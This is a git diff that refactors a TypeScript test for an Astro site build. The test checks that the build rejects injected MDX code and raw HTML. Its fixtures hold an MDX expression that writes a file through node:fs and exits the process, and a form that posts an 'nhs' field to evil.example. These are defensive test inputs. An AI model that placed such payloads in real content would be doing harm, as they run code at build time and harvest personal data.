@@ -303,27 +303,36 @@ describe('the injection corpus', () => {
   });
 
   it('an Astro build with the content check left out still refuses MDX code and raw HTML, and none of the code runs', async () => {
-    const content = path.join(work, 'unchecked', 'content');
-    const dir = path.join(content, 'harbourside');
-    cpSync(path.join(repoRoot, 'content', 'harbourside'), dir, { recursive: true });
-    mdx(`{process.getBuiltinModule("node:fs").writeFileSync(${JSON.stringify(canary)}, "ran")}\n\n{process.exit(3)}`)(dir);
-    md('<form action="https://evil.example/"><input name="nhs"></form>')(dir);
     const script = path.join(repoRoot, 'tests', 'support', 'render-without-check.ts');
-    let code = 0;
-    let output = '';
-    try {
-      const result = await promisify(execFile)(process.execPath, [script, content, path.join(work, 'unchecked-out')], { cwd: repoRoot });
-      output = result.stdout;
-    } catch (error) {
-      const failed = error as { code: number; stdout: string; stderr: string };
-      code = failed.code;
-      output = `${failed.stdout}\n${failed.stderr}`;
+    /** Builds a copy of a sample trust with one unsafe change and no content check: the build stops at the first page its own plugin refuses. */
+    const buildUnchecked = async (name: string, change: (dir: string) => void) => {
+      const content = path.join(work, `unchecked-${name}`, 'content');
+      const dir = path.join(content, 'harbourside');
+      cpSync(path.join(repoRoot, 'content', 'harbourside'), dir, { recursive: true });
+      change(dir);
+      try {
+        const result = await promisify(execFile)(process.execPath, [script, content, path.join(work, `unchecked-${name}-out`)], {
+          cwd: repoRoot,
+        });
+        return { code: 0, output: result.stdout };
+      } catch (error) {
+        const failed = error as { code: number; stdout: string; stderr: string };
+        return { code: failed.code, output: `${failed.stdout}\n${failed.stderr}` };
+      }
+    };
+    const code = await buildUnchecked(
+      'mdx',
+      mdx(`{process.getBuiltinModule("node:fs").writeFileSync(${JSON.stringify(canary)}, "ran")}\n\n{process.exit(3)}`),
+    );
+    expect(code.code, code.output).toBe(1);
+    expect(code.output).toMatch(/content\/harbourside\/index\.mdx:\d+(:\d+)?\n\s+error \(mdx-expression\)/);
+    const html = await buildUnchecked('html', md('<form action="https://evil.example/"><input name="nhs"></form>'));
+    expect(html.code, html.output).toBe(1);
+    expect(html.output).toMatch(/content\/harbourside\/vision\.md:\d+(:\d+)?\n\s+error \(unsafe-html\)/);
+    for (const { output } of [code, html]) {
+      expect(output).not.toContain('fault in the site builder');
+      expect(output).not.toContain('built');
     }
-    expect(code, output).toBe(1);
-    expect(output).toMatch(/content\/harbourside\/index\.mdx:\d+(:\d+)?\n\s+error \(mdx-expression\)/);
-    expect(output).toMatch(/content\/harbourside\/vision\.md:\d+(:\d+)?\n\s+error \(unsafe-html\)/);
-    expect(output).not.toContain('fault in the site builder');
-    expect(output).not.toContain('built');
     expect(existsSync(canary)).toBe(false);
   });
 });
